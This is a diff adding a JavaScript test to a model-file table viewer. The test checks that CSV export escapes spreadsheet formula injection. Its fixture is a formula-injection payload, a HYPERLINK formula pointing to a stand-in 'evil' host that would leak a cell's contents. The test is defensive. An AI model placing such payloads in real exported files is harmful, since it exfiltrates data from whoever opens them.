@@ -64,6 +64,12 @@ describe("The rows of a model file's table", () => {
     assert.equal(cellText(1200, { name: "Parameters", holds: "count" }), "1,200");
   });
 
+  it("are copied as CSV in which no name is a formula", () => {
+    const name = '=HYPERLINK("http://evil/?"&A2,"x")';
+    const row = csvOf({ ...TABLE, rows: [[name, "[]", -3]] }, [0]);
+    assert.equal(row, `"'=HYPERLINK(""http://evil/?""&A2,""x"")",[],-3\n`);
+  });
+
   it("are copied as CSV that gives them back", () => {
     assert.equal(csvHead(TABLE), "Name,Shape,Bytes\n");
     assert.equal(csvOf(TABLE, [3, 1]), '"odd,""name""",[],300\nlayers.2.q_proj,[512],\n');
